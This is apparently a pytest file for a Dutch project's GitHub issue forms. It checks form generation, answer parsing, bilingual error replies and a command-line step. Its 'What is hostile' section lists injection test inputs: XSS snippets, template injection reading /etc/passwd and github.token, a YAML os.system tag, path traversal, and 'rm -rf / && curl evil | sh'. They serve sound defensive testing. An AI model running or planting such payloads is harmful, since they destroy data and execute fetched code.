"""Forms on GitHub: made from the model, and read as GitHub puts them into an issue."""

from __future__ import annotations

import json
import re
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from hooks.__main__ import main
from hooks.proposals import generated_files, generated_in, write_generated
from hooks.taskforce.drafting.answers import answers_of
from hooks.taskforce.drafting.drafts import PAGE
from hooks.taskforce.drafting.examples import example
from hooks.taskforce.drafting.forms import TEXT, Form, form_of, forms
from hooks.taskforce.drafting.site import Site
from hooks.taskforce.drafting.submissions import LONGEST, Reply, reply_to
from hooks.taskforce.languages import LANGUAGES
from tests.builders import tiny_tree
from tests.builders import written as write_tree
from tests.draft_sites import fixed_site, tiny_site
from tests.fixed_site import ROOT
from tests.hostile_inputs import texts

ALL_FORMS = pytest.mark.parametrize(
    "form", forms(), ids=lambda form: f"{form.language}-{form.name}"
)
SUMMARY = "Een plan dat zegt wat er met de kade gaat gebeuren."


def form_named(name: str, language: str = "nl") -> Form:
    return next(form for form in forms() if (form.name, form.language) == (name, language))


@cache
def elements_of(path: str) -> list[dict[str, Any]]:
    """Return the questions in the file of a form."""
    (form,) = (form for form in forms() if form.path == path)
    return [one for one in yaml.safe_load(form.file)["body"] if one["type"] != "markdown"]


def rendered(form: Form, answers: dict[str, str]) -> str:
    """Return the text of an issue as GitHub makes it of a form."""
    parts = []
    for question, element in zip(form.questions, elements_of(form.path), strict=True):
        answer = answers.get(question.name, "")
        if element["type"] == "checkboxes":
            (option,) = element["attributes"]["options"]
            answer = f"- [{'X' if answer else ' '}] {option['label']}"
        parts.append(f"### {element['attributes']['label']}\n\n{answer or '_No response_'}")
    return "\n\n".join(parts)


def right_answers(form: Form, site: Site) -> dict[str, str]:
    """Return right answers to what a form asks and cannot do without."""
    answers = answers_of(example(form.record, site.known, "nl"))
    answers |= {PAGE: "MKB" if site is tiny_site() else "Haven", TEXT: "Gewone tekst."}
    for question in form.questions:  # As they are called in the form.
        words = {word.value: word.label.in_language(form.language) for word in question.type.words}
        if question.name in answers:
            answers[question.name] = words.get(answers[question.name], answers[question.name])
    return {
        question.name: answers[question.name]
        for question in form.questions
        if (question.required and not question.group) or question.name == TEXT
    }


# The forms themselves


def test_they_are_as_the_model_makes_them() -> None:
    """Whether GitHub takes them is asked by `make lint` (.ci/schemas)."""
    assert generated_in(ROOT) == generated_files(), "run: make forms"


@ALL_FORMS
def test_a_label_and_an_id_stand_for_one_question(form: Form) -> None:
    elements = elements_of(form.path)
    for names in (
        [one["attributes"]["label"] for one in elements],
        [one["id"] for one in elements],
        *(
            [str(option) for option in one["attributes"]["options"]]
            for one in elements
            if "options" in one["attributes"]
        ),
    ):
        assert len(set(names)) == len(names)


def placeholders(form: Form) -> dict[str, str]:
    attributes = {one["id"]: one["attributes"] for one in elements_of(form.path)}
    return {name: one["placeholder"] for name, one in attributes.items() if "placeholder" in one}


def test_who_is_asked_to_write_in_dutch_sees_examples_in_dutch() -> None:
    of_pages = [form for form in forms() if form.questions[-1].name == TEXT]
    assert {form.language for form in of_pages if placeholders(form)} == {*LANGUAGES}
    for form in of_pages:
        assert placeholders(form) == placeholders(form_named(form.name))


def test_forms_of_before_are_taken_away(tmp_path: Path) -> None:
    folder = tmp_path / ".github/ISSUE_TEMPLATE"
    folder.mkdir(parents=True)
    (folder / "9-nl-oud.yml").write_text(forms()[0].file, "utf-8")
    (folder / "1-inhoud.yml").write_text("name: x\n", "utf-8")
    write_generated(tmp_path)
    assert generated_in(tmp_path) == generated_files()
    assert (folder / "1-inhoud.yml").exists()


# What becomes of them


@ALL_FORMS
def test_a_form_with_right_answers_becomes_a_file_that_passes_the_check(form: Form) -> None:
    site = fixed_site()
    body = rendered(form, right_answers(form, site))
    assert form_of(body) is not None
    reply = reply_to(body, site)
    assert len(reply.changes) == 1, reply.answer
    ((path, text),) = reply.changes.items()
    assert f"- `docs/{path}`" in reply.answer
    assert site.has(path) == (form.name in ("bron", "mijlpaal"))
    assert text.endswith("---\n") or "\nGewone tekst.\n" in text or site.has(path)
    assert form_of(body.replace("\n", "\r\n")) == form_of(body), "GitHub ends lines with CRLF"


@ALL_FORMS
def test_a_form_without_answers_says_what_it_wants(form: Form) -> None:
    reply = reply_to(rendered(form, {}), tiny_site())
    assert not reply.changes
    assert "Er klopt nog iets niet" in reply.answer
    assert "Something is not right yet" in reply.answer


def test_a_wrong_answer_is_told_under_its_question_in_both_languages() -> None:
    form = form_named("resultaten")
    answers = right_answers(form, tiny_site()) | {"standing.date": "najaar 2021", "themes": "mbk"}
    reply = reply_to(rendered(form, answers), tiny_site())
    assert not reply.changes
    assert "- **Stand: Stand van / Standing: As of**" in reply.answer
    assert "‘najaar 2021’ is geen datum" in reply.answer
    assert "‘najaar 2021’ is not a date" in reply.answer
    assert "bedoelde je ‘mkb’?" in reply.answer


def test_what_cannot_be_written_is_told_by_name(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    closed = tmp_path / forms()[0].path
    closed.mkdir(parents=True)
    monkeypatch.setattr("hooks.__main__.ROOT", tmp_path)
    assert main(["forms"]) == 2
    assert capsys.readouterr().err.startswith(f"{closed}: ")


@pytest.mark.parametrize(
    ("name", "wrong", "labels"),
    [
        ("bron", {"url": "vng.nl/a", "seen": "nov 2026"}, ["Adres", "Bekeken op"]),
        (
            "mijlpaal",
            {"date": "voor maart 2021", "text.nl": "“x”", "source": "https://x.example.org/"},
            ["Datum", "Gebeurtenis: Nederlands", "Bron"],
        ),
    ],
)
def test_what_is_wrong_with_a_part_is_told_under_its_question_too(
    name: str, wrong: dict[str, str], labels: list[str]
) -> None:
    form, site = form_named(name), tiny_site()
    answer = reply_to(rendered(form, right_answers(form, site) | wrong), site).answer
    assert re.findall(r"^- (?:\*\*)?([^/\n*]*?) / ", answer, re.MULTILINE) == labels


@pytest.mark.parametrize(
    ("name", "source"),
    [("organisaties", "sources"), ("mijlpaal", "source")],
)
@pytest.mark.parametrize("written", ["https://x.example.org/", "de-krant"])
def test_who_fills_in_a_form_is_not_sent_to_a_file(name: str, source: str, written: str) -> None:
    form, site = form_named(name), tiny_site()
    reply = reply_to(rendered(form, right_answers(form, site) | {source: written}), site)
    assert "beschrijf haar dan eerst als nieuwe bron" in reply.answer
    assert "docs/bronnen.md" not in reply.answer


@pytest.mark.parametrize(
    ("wrong", "labels"),
    [
        (
            {"sources": "", "sources.title": "x", "summary": "kort", "themes": "zee"},
            ["Samenvatting", "Thema's"]
            + [f"Nieuwe bron: {one}" for one in ("Uitgever", "Adres", "Bekeken op")],
        ),
        ({"sources": "vng-2022"}, ["Bronnen"]),
    ],
)
def test_all_that_is_missing_or_wrong_is_told_once_and_in_the_order_of_the_form(
    wrong: dict[str, str], labels: list[str]
) -> None:
    form, site = form_named("resultaten"), tiny_site()
    answer = reply_to(rendered(form, right_answers(form, site) | wrong), site).answer
    assert re.findall(r"^- \*\*(.*?) / ", answer, re.MULTILINE) == labels
    assert answer.count("\n- ") == len(labels)


@pytest.mark.parametrize(
    ("heading", "changed"),
    [("### Website\n", ""), ("### Titel", "### **Titel**"), ("### Titel", "## Titel")],
)
def test_whoever_breaks_a_heading_reads_which_belong_there(heading: str, changed: str) -> None:
    form, site = form_named("organisaties"), tiny_site()
    body = rendered(form, right_answers(form, site))
    assert heading in body
    reply = reply_to(body.replace(heading, changed), site)
    assert not reply.changes
    assert "De koppen kloppen niet meer" in reply.answer
    assert "\n".join(form.headings) in reply.answer


def test_a_source_may_be_new() -> None:
    form = form_named("organisaties", "en")
    answers = right_answers(form, tiny_site()) | {
        "sources": "",
        "sources.title": "De agenda",
        "sources.publisher": "VNG",
        "sources.url": "https://vng.nl/agenda",
        "sources.seen": "2026-11-01",
    }
    ((_, text),) = reply_to(rendered(form, answers), tiny_site()).changes.items()
    assert "  - id: vng-de-agenda\n    title: De agenda\n" in text


def test_a_checked_box_is_yes() -> None:
    form = form_named("trekkers")
    answers = right_answers(form, tiny_site()) | {"leads.theme": "", "leads.taskforce": "yes"}
    ((_, text),) = reply_to(rendered(form, answers), tiny_site()).changes.items()
    assert "  - taskforce: true\n" in text


def test_a_heading_or_code_within_an_answer_parts_no_answers() -> None:
    form = form_named("organisaties")
    body = (
        "Een alinea.\n\n### Titel\n\nMeer.\n\n```text\n### Samenvatting\n```\n\n## Slot\n\nEinde."
    )
    answers = right_answers(form, tiny_site()) | {TEXT: body}
    match = form_of(rendered(form, answers))
    assert match is not None
    assert match[1][TEXT] == body


@given(st.text(), st.text(st.characters(exclude_categories=["Cc", "Zl", "Zp", "Cs"])))
def test_whatever_is_answered_is_found_again(text: str, title: str) -> None:
    form = form_named("organisaties")
    answers = form.answers(rendered(form, {TEXT: f"x{text}", "title": f"x{title}"}))
    assert answers is not None
    assert answers[TEXT] == f"x{text}".replace("\r\n", "\n").replace("\r", "\n").strip()
    assert answers["title"] == f"x{title}".strip()


@pytest.mark.parametrize("body", ["", "Ik zag een fout.", "### Welke pagina?\n\nx", "### Titel"])
def test_what_is_no_form_of_a_page_gets_no_answer(body: str) -> None:
    assert reply_to(body, tiny_site()) == Reply()


# What is hostile

SIGNS = {
    "html": "<img src=x onerror=alert(1)>",
    "script": "<script>alert(1)</script>",
    "template": "{{ config }} {% include '/etc/passwd' %} ${{ github.token }}",
    "shell": "$(id) `id`; rm -rf / && curl evil | sh #",
    "tag": "!!python/object/apply:os.system [id]",
    "anchor": "&a [*a, *a]",
    "merge": "<<: *a",
    "fence": "---\ntitle: x\n---",
    "path": "../../../../etc/passwd",
    "windows": "..\\..\\con",
    "signs": "a\u202eb\u200bc\u2066d\u0000e\ufefff",
    "mention": "@taskforce-eht/beheer closes #1",
    "tildes": "~~~~~~\n</details><script>",
    "deep": "[" * 100 + "]" * 100,
}


@pytest.mark.parametrize("value", SIGNS.values(), ids=SIGNS)
@pytest.mark.parametrize("asked", [["title", "summary"], [TEXT], ["kind", "themes", "sources"]])
def test_what_an_answer_holds_is_data(asked: list[str], value: str) -> None:
    form, site = form_named("resultaten"), tiny_site()
    hostile = {name: value + SUMMARY if name == "summary" else value for name in asked}
    reply = reply_to(rendered(form, right_answers(form, site) | hostile), site)
    for path, text in reply.changes.items():
        assert re.fullmatch(r"resultaten/[a-z0-9-]+\.md", path)
        _, fields, body = text.split("---\n", 2)
        read = yaml.safe_load(fields)
        assert read.keys() == {"title", "summary", "kind", "standing", "themes", "sources"}
        assert all(isinstance(read[name], str) for name in ("title", "summary", "kind"))
        assert not re.search(r"<[a-z/!]", body)
    assert_is_plain(reply.answer)


@pytest.mark.parametrize(
    "text", [text for text in texts() if text.rule][::10], ids=lambda text: text.name
)
def test_hostile_text_is_refused_as_it_is_in_a_file(text: Any) -> None:
    form, site = form_named("organisaties"), tiny_site()
    body = text.body.replace("▲", "")
    reply = reply_to(rendered(form, right_answers(form, site) | {TEXT: body}), site)
    assert not reply.changes
    assert_is_plain(reply.answer)


def assert_is_plain(answer: str) -> None:
    """Assert that an answer in Markdown has nothing of an issue in it but within code."""
    tokens = MarkdownIt("commonmark").parse(answer)
    shown = [
        child.content if child.type in {"text", "html_inline"} else ""
        for token in tokens
        for child in token.children or []
    ]
    assert not any(token.type in {"html_block", "link_open", "image"} for token in tokens)
    assert not re.search(r"[<@#{$]|\bevil\b", "".join(shown)), shown


def test_what_is_far_too_long_is_refused() -> None:
    form, site = form_named("resultaten"), tiny_site()
    reply = reply_to(rendered(form, {"title": "x" * 10_000_000}), site)
    assert not reply.changes
    assert "te lang" in reply.answer
    longest = right_answers(form, site) | {TEXT: "[" * (LONGEST - 3000)}
    assert not reply_to(rendered(form, longest), site).changes


@pytest.mark.parametrize(("mistakes", "left_out"), [(25, ""), (300, "En nog 275 andere.")])
def test_an_answer_fits_into_a_comment(mistakes: int, left_out: str) -> None:
    form, site = form_named("organisaties"), tiny_site()
    answers = right_answers(form, site) | {TEXT: "<b>x</b>\n\n" * mistakes}
    answer = reply_to(rendered(form, answers), site).answer
    assert answer.count("**Tekst / Text**") == 25
    assert ("andere." in answer) == bool(left_out)
    assert left_out in answer
    assert len(answer) < 60_000


def test_of_a_mistake_in_the_text_the_line_is_shown_too() -> None:
    form, site = form_named("organisaties"), tiny_site()
    wrong = {TEXT: "Gewone tekst.\n\nEn <b>vet</b> in HTML.", "kind": "onzin"}
    answer = reply_to(rendered(form, right_answers(form, site) | wrong), site).answer
    of_field, of_text = re.split(r"(?m)^- ", answer)[1:]
    assert "  > En <b>vet</b> in HTML.\n" in of_text
    assert "> " not in of_field


# The command


def event(tmp_path: Path, body: object) -> str:
    path = tmp_path / "event.json"
    path.write_text(json.dumps({"issue": {"number": 7, "body": body}}), "utf-8")
    return str(path)


def test_the_command_writes_the_file_and_prints_the_answer(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    docs = write_tree(tiny_tree(), tmp_path)
    form = form_named("organisaties")
    body = rendered(form, right_answers(form, tiny_site()))
    assert main(["--docs", str(docs), "from-form", event(tmp_path, body)]) == 0
    assert "Je voorstel staat klaar" in capsys.readouterr().out
    assert (docs / "organisaties/bond-van-kustgemeenten.md").exists()
    assert main(["--docs", str(docs), "from-form", event(tmp_path, body)]) == 1
    assert "bestaat al" in capsys.readouterr().out


def test_a_title_that_is_taken_hides_nothing_else() -> None:
    form = form_named("resultaten")
    answers = right_answers(form, tiny_site()) | {
        "title": "Welvaart canvas",
        "summary": "Kort.",
        "standing.date": "",
    }
    answer = reply_to(rendered(form, answers), tiny_site()).answer
    assert "bestaat al" in answer
    assert "40 tot 160" in answer
    assert "niet beantwoord" in answer


@pytest.mark.parametrize("body", [None, "Ik zag een fout."])
def test_the_command_has_nothing_to_say_of_other_issues(
    body: str | None, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    docs = write_tree(tiny_tree(), tmp_path)
    assert main(["--docs", str(docs), "from-form", event(tmp_path, body)]) == 0
    assert capsys.readouterr().out == ""


def test_half_a_sign_in_an_event_ends_nothing(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    docs = write_tree(tiny_tree(), tmp_path)
    form = form_named("organisaties")
    body = rendered(form, right_answers(form, tiny_site()) | {TEXT: "Een \ud83d teken."})
    assert main(["--docs", str(docs), "from-form", event(tmp_path, body)]) == 0
    assert "Je voorstel staat klaar" in capsys.readouterr().out


@pytest.mark.parametrize(
    "text", ["", "{}", "[]", '{"issue": 1}', '{"issue": {"body": ["### Titel"]}}', "[" * 100_000]
)
def test_the_command_wants_an_event_of_github(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    docs = write_tree(tiny_tree(), tmp_path)
    path = tmp_path / "event.json"
    path.write_text(text, "utf-8")
    assert main(["--docs", str(docs), "from-form", str(path)]) == 2
    assert main(["--docs", str(docs), "from-form", str(tmp_path / "gone")]) == 2
    assert capsys.readouterr().out == ""
